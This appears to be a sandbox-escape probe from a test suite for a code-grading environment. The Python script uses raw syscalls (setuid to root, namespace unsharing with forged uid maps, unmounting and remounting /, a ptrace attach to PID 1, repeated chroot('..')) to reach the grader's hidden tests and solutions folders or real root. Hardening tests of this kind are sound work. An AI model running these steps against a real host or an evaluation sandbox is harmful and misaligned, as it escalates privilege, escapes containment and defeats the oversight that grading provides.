"""Break out with raw syscalls through ctypes: become root, new user namespace, unmount, remount, chroot, ptrace.

Succeeds if the project's hidden folders become listable or uid 0 of the
machine is reached.
"""
import ctypes
import os

import grader  # mounted where it lives on the host, so this is the checkout's real path
PROJECT = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))

libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]


def listable(path):
    try:
        os.listdir(path)
        return True
    except OSError:
        return False


def visible():
    return any(listable(p) for p in [PROJECT + "/autograde_tests", PROJECT + "/solutions", "/.old"])


libc.setuid(0)
libc.setresuid(0, 0, 0)
libc.umount2(b"/tmp", 2)
libc.mount(b"none", b"/", None, 32 | 4096, None)  # remount / read-write
libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to PID 1
uid = os.getuid()
if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        open("/proc/self/gid_map", "w").write(f"0 {uid} 1")
    except OSError:
        pass
    for target in [b"/tmp", PROJECT.encode(), b"/root", b"/"]:
        libc.umount2(target, 2)
    libc.mount(b"/dev/vda", b"/tmp", b"ext4", 1, None)
    for _ in range(3):
        libc.chroot(b"..")
        os.chdir("..")
if visible():
    print("ATTACK-SUCCESS: the project is visible")
if os.geteuid() == 0 and uid != 0 and os.path.exists("/proc/1/root" + PROJECT + "/autograde_tests"):
    print("ATTACK-SUCCESS: root")
print("ATTACK-DONE")
